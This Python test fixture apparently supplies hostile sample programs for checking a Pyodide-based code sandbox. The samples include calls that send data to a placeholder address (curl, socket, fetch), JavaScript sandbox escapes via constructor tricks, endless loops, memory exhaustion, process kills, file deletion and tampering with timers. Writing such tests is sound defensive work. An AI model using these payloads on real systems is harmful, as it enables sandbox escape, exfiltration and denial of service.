"""Programs that mean harm, each with what a person is told: part of the sentence, in English.

`ADDRESS` stands for an address that nothing of a program may ever ask for. What tries several ways
out prints each that went through.
"""

from __future__ import annotations

from typing import NamedTuple

TRIED = """\
def tried(*ways):
    import asyncio, ctypes, io, os, socket, sys
    names = {**globals(), **locals()}
    for way in ways:
        try:
            exec(way, names)
            print("went through:", way)
        except BaseException:
            pass
"""


class Program(NamedTuple):
    """A program, and what comes of it."""

    code: str
    told: str = ""
    """Part of the sentence; empty where the program ends without one."""
    changes: bool = False
    """Whether it changes what runs it, so that nothing else is to run there."""
    seconds: int = 10
    """Its limit."""


def ways(*each: str, told: str = "", before: str = "") -> Program:
    """Return a program that tries ways out, and then finds no plan."""
    return Program(
        f"{TRIED}{before}def mine(problem):\n    tried(*{list(each)!r})\n    return None\n", told
    )


def body(*lines: str, told: str = "", changes: bool = False) -> Program:
    """Return a program whose function has these lines."""
    text = "".join(f"    {line}\n" for line in lines)
    return Program(f"import os, sys\ndef mine(problem):\n{text}", told, changes)


LATE = "no answer within 1 second"
LOOP = "loop"  # Python names its line, unless a busy machine lets it come too late
RAISED = "stopped with an error at line"
BROKEN = "was started again"
UNREADABLE = "cannot be read"
FORGED_REPLY = (
    '{"reply": {"figures": {"outcome": {}}, "moves": "", "printed": "", "trouble": null}}'
)
FORGED_FILM = (
    '{"reply": {"figures": {"expanded": 1}, "moves": "", "printed": "", "trouble": null,'
    ' "format": "searchcade film 1", "board": {"rows": 1e9, "cols": 1e9, "passages": "", "tiles":'
    ' [], "sprites": [], "looks": [[]], "pictures": {}, "colours": {}}, "lanes": []}}'
)


def answering(answer: str) -> Program:
    """Return a program after which every request is answered so, its own included."""
    return body(
        "from searchcade.tab import dispatch",
        "class Liar:",
        f"    def dumps(self, *values, **options): return {answer}",
        "    loads = staticmethod(dispatch.json.loads)",
        "dispatch.json = Liar()",
        told=UNREADABLE,
        changes=True,
    )


LEAVING = {
    "fetch and its like": ways(
        "import js; js.fetch('ADDRESS')",
        "import js; x = js.XMLHttpRequest.new(); x.open('GET', 'ADDRESS', False); x.send()",
        "import js; js.WebSocket.new('ADDRESS')",
        "import js; js.EventSource.new('ADDRESS')",
        "import js; js.WebTransport.new('ADDRESS')",
        "import js; js.navigator.sendBeacon('ADDRESS')",
        "import js; js.importScripts('ADDRESS')",
        "from js import fetch",
        "import js; js.self.fetch('ADDRESS')",
        "import js; js.globalThis.fetch('ADDRESS')",
        "import js; js.setTimeout",
    ),
    "what the browser keeps": ways(
        "import js; js.indexedDB.open('kept')",
        "import js; js.caches.open('kept')",
        "import js; js.localStorage",
        "import js; js.sessionStorage",
        "import js; js.navigator.storage.getDirectory()",
        "import js; js.cookieStore",
        "from pyodide_js import mountNativeFS; mountNativeFS('/x', 1).x",
        "import pyodide_js; F = pyodide_js.FS; F.mkdir('/i');"
        "F.mount(F.filesystems.IDBFS, {}, '/i'); F.syncfs(True, lambda error=None: error.x)",
    ),
    "other workers and pages": ways(
        "import js; js.Worker.new('ADDRESS')",
        "import js; js.SharedWorker.new('ADDRESS')",
        "import js; js.BroadcastChannel.new('searchcade')",
        "import js; js.postMessage('x')",
        "import js; js.navigator.serviceWorker",
        "import js; js.navigator.locks.request('x', print)",
        "import webbrowser; webbrowser.open('ADDRESS')",
    ),
    "JavaScript": ways(
        "from pyodide.code import run_js; run_js('1 + 1')",
        "import pyodide_js; pyodide_js.loadPackage.constructor('return 1')()",
        "import pyodide_js; pyodide_js.runPythonAsync.constructor('return 1')()",
        "import pyodide_js; pyodide_js.constructor.constructor('return 1')()",
        "import pyodide_js; pyodide_js.FS.open.constructor('return import(\"ADDRESS\")')()",
        "import pyodide_js; pyodide_js.constructor.constructor('return this')().fetch('ADDRESS')",
        "from searchcade.compiled.engines.browser import webassembly as w;"
        "w.Module.constructor('return 1')()",
        "from searchcade.own.deadline import _alarms; _alarms[0].constructor('return 1')()",
    ),
    "JavaScript of Emscripten": body(
        "import ctypes; ctypes.CDLL(None).emscripten_run_script(b'fetch(\"ADDRESS\")')", told=BROKEN
    ),
    "the frames of an error": ways(
        "from pyodide.ffi import create_proxy\n"
        "import pyodide_js\n"
        "found, Object = [], pyodide_js.constructor\n"
        "def kept(_, frames):\n"
        "    found.extend([each.getThis() for each in frames])\n"
        "    found.extend([each.getFunction() for each in frames])\n"
        "try: Object.defineProperty(1)\n"
        "except Exception as problem: error = Object.getPrototypeOf(problem.constructor)\n"
        "error.prepareStackTrace = create_proxy(kept)\n"
        "try: Object.defineProperty(1)\n"
        "except Exception as problem: problem.stack\n"
        "next(each for each in found if hasattr(each, 'setTimeout'))",
    ),
    "requests of Pyodide": ways(
        "from pyodide.http import open_url; open_url('ADDRESS')",
        "from pyodide.http import pyfetch; pyfetch('ADDRESS').send(None)",
        "from pyodide.http import pyxhr; pyxhr.get('ADDRESS')",
        "import pyodide_js; pyodide_js._api.loadBinaryFile('ADDRESS').x",
        "import micropip",
        "import pyodide_js; pyodide_js.loadPackage('numpy').result()",
        "import pyodide_js; pyodide_js.loadPackage('ADDRESS.whl').result()",
        "import pyodide_js; pyodide_js._module.loadDynamicLibrary('ADDRESS')",
        "import pyodide_js; pyodide_js.FS.createPreloadedFile('/', 'p', 'ADDRESS', True, True);"
        "open('/p').read()",
    ),
    "a lazy file": body(
        "import pyodide_js",
        "pyodide_js.FS.createLazyFile('/', 'lazy', 'ADDRESS', True, True)",
        "return open('/lazy').read()",
        told="o",
    ),
    "Python's own requests": ways(
        "from urllib.request import urlopen; urlopen('ADDRESS')",
        "import http.client as c; c.HTTPConnection('127.0.0.1', PORT).request('GET', '/stolen')",
        "import socket; s = socket.create_connection(('127.0.0.1', PORT), 1);"
        "s.send(b'GET /stolen HTTP/1.0\\r\\n\\r\\n')",
        "import asyncio; asyncio.open_connection('127.0.0.1', PORT).send(None)",
        "import sys, importlib; sys.path.insert(0, 'ADDRESS'); importlib.import_module('stolen')",
        "import ctypes; ctypes.CDLL('ADDRESS')",
        "import subprocess; subprocess.run(['curl', 'ADDRESS'])",
        "import os; os.fork()",
        "import os; os.system('curl ADDRESS') and 1 / 0",
    ),
    "WebAssembly of its own": ways(
        "from searchcade.compiled.engines.browser import webassembly as w;"
        "w.compileStreaming('ADDRESS').result()",
        "from searchcade.compiled.engines.browser import webassembly as w;"
        "w.instantiateStreaming('ADDRESS').result()",
        "from searchcade.compiled.engines.browser import webassembly as w, uint8array as u;"
        "from pyodide.ffi import to_js; m = w.Module.new(to_js(bytes.fromhex("
        "'0061736d0100000001040160000002090103656e7601660000')));"
        "w.Instance.new(m, to_js({'env': {'f': w.fetch}}))",
    ),
    "later, when it has ended": body(
        "import asyncio, js, pyodide_js",
        "loop = asyncio.get_event_loop()",
        "loop.call_later(0, lambda: pyodide_js.loadPackage('ADDRESS.whl'))",
        "loop.call_later(0, lambda: js.fetch('ADDRESS'))",
    ),
}

ENDLESS = {
    "a loop": body("while True: pass", told=LOOP),
    "a loop that catches all": body(
        "while True:",
        "    try:",
        "        while True: pass",
        "    except BaseException: pass",
        told=LOOP,
    ),
    "a loop in Python itself": body("return sum(iter(int, 1))", told=LATE),
    "a huge power": body("return str(9 ** 9 ** 8)", told=LATE),
    "a regex": body("import re; return re.match('(a+)+$', 'a' * 50 + 'b')", told=LATE),
    "sleep": body("import time; time.sleep(60)", told=LATE),
    "many sleeps": body("import time", "while True: time.sleep(0.01)", told=LOOP),
    "an event": body("import threading; threading.Event().wait()", told=LATE),
    "a comparison": Program(
        "class Odd:\n    def __eq__(self, other):\n        return sum(iter(int, 1))\n"
        "    __hash__ = object.__hash__\ndef mine(problem):\n    return [Odd()] == [Odd()]\n",
        LATE,
    ),
    "while it is loaded": Program("sum(iter(int, 1))\ndef mine(problem): return ''\n", LATE),
    "an error that never tells itself": Program(
        "class Odd(Exception):\n    def __str__(self): return sum(iter(int, 1))\n"
        "def mine(problem):\n    raise Odd\n",
        LATE,
    ),
    "prints": body("while True: print('x' * 1000)", told=LOOP),
    "prints beside": body("while True: os.write(1, b'x' * 1000); os.write(2, b'y')", told=LOOP),
    "without its deadline": body(
        "sys.monitoring.set_events(4, 0); sys.monitoring.free_tool_id(4)",
        "while True: pass",
        told=LATE,
    ),
    "with another budget": body(
        "import gc",
        "from searchcade.search.limits import Limits",
        "Limits.limit_reached = lambda self: None",
        "while True: pass",
        told=LATE,
        changes=True,
    ),
    "with another alarm": body(
        "from searchcade.own.deadline import _alarms",
        "_alarms[0](1e9); _alarms[0](0); _alarms[0](1e9)",
        "return sum(iter(int, 1))",
        told=LATE,
        changes=True,
    ),
    "with no clock": body(
        "import time; time.perf_counter = time.monotonic = time.thread_time = lambda: 0",
        "while True: pass",
        told=LOOP,
        changes=True,
    ),
}

TOO_MUCH = {
    "a list that grows": body("x = []", "while True: x.append(bytearray(10 ** 6))", told="memory"),
    "a gigabyte at once": body("return bytearray(2 ** 30)", told="memory"),
    "a long text": body("return 'x' * 2 ** 30", told="memory"),
    "recursion": body("def deep(n): return deep(n + 1)", "return deep(0)", told=RAISED),
    "recursion without its limit": body(
        "sys.setrecursionlimit(2 ** 30)",
        "def deep(n): return deep(n + 1)",
        "return deep(0)",
        told=BROKEN,
    ),
    "deep brackets": body("return eval('(' * 10 ** 6)", told="cannot read line 3"),
    "a long error": body("raise ValueError('x' * 10 ** 7)", told=RAISED),
    "a long plan": body("return 'x' * 10 ** 7", told="the rules refuse it"),
}

LEAVES = {
    "close": ways("import js; js.close()"),
    "input": body("return input('?')", told=RAISED),
    "exit": body("sys.exit()", told=RAISED),
    "an exit at once": body("os._exit(3)", told=BROKEN),
    "abort": body("os.abort()", told=BROKEN),
    "a signal": body("import signal; signal.raise_signal(signal.SIGTERM)", told=BROKEN),
    "a kill": body("os.kill(os.getpid(), 9)", told=BROKEN),
    "Ctrl-C": body("raise KeyboardInterrupt", told="what is expected"),
    "a wild address": body("import ctypes; ctypes.memset(8, 255, 2 ** 24)", told=BROKEN),
    "a thread": body("import threading; threading.Thread(target=print).start()", told=RAISED),
    "something strange": body("return object()", told="what is expected"),
}

LYING = {
    "no JSON": answering("'7'"),
    "nothing": answering("''"),
    "an answer of another shape": answering(repr(FORGED_REPLY)),
    "no text": answering("object()"),
    "a long answer": answering("'[' * 2 * 10 ** 7"),
    "a huge board": answering(repr(FORGED_FILM)),
    "an answer that never comes": answering("sum(iter(int, 1))")._replace(told=LATE, seconds=1),
    "deleted files": body(
        "import shutil; shutil.rmtree('/package', True); shutil.rmtree('/lib', True)",
        changes=True,
    ),
    "other rules": body(
        "import searchcade.solve as solve, searchcade.optima as optima",
        "import searchcade.tab.code as code",
        "solve.solve = code.solve = code.figures_of = optima.prove = lambda *values: 1 / 0",
        "code.beside = code.prepare = code.walk = lambda **values: {'rows': [], 'title': 'lie'}",
        "code.REQUESTS.update(beside=code.beside, prepare=code.prepare)",
        told=BROKEN,
        changes=True,
    ),
    "another language": body(
        "import builtins",
        "builtins.len = builtins.sorted = builtins.isinstance = lambda *values: 0",
        told=BROKEN,
        changes=True,
    ),
    "a loop that it leaves behind": body(
        "import asyncio",
        "asyncio.get_event_loop().call_later(0, lambda: sum(iter(int, 1)))",
        "next(iter(problem.successors(problem.start)))",
        told="no answer within 2 seconds",
        changes=True,
    ),
}

ENDLESS = {name: program._replace(seconds=1) for name, program in ENDLESS.items()}
PROGRAMS = {**LEAVING, **ENDLESS, **TOO_MUCH, **LEAVES, **LYING}
FEW = [
    "fetch and its like",
    "requests of Pyodide",
    "a loop in Python itself",
    "exit",
    "an answer of another shape",
]
"""Programs for the usual run."""
